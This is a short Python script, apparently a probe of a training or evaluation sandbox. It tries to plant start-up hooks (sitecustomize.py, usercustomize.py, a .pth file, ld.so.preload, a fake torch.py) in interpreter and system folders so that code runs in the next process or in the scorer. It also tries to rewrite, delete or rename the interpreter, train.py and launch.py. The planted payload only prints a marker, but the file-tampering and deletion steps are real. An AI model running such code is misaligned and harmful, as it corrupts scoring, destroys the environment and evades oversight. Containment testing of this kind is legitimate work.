# Tries: to leave code for the next run or for the scorer: in the interpreter, its packages, start-up files, preloads.
import os
import site
import sys


def main():
    folders = {os.path.dirname(os.__file__), sys.base_prefix, sys.prefix, "/usr/lib", "/usr/bin", "/lib", "/etc", "/",
               "/job", "/run", "/dev", "/usr", *site.getsitepackages(), *filter(os.path.isdir, sys.path)}
    scratch = os.stat("/tmp").st_dev  # what lies there ends with the sandbox, also a folder above the interpreter's
    folders = {path for path in folders if not (path.startswith("/tmp/") and os.stat(path).st_dev == scratch)}
    for folder in sorted(folders - {"/scratch"}):
        for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "ld.so.preload", "torch.py"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("import os; print('OBTAINED code in the next process')\n")
                print("OBTAINED a write to", folder)
            except OSError:
                pass
    for path in (os.__file__, sys.executable, "/job/train.py", "/run/launch.py"):
        for action in (lambda path=path: os.chmod(path, 0o777), lambda path=path: open(path, "r+b").close(),
                       lambda path=path: os.unlink(path), lambda path=path: os.rename(path, path + "x")):
            try:
                action()
                print("OBTAINED a change of", path)
            except OSError:
                pass


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
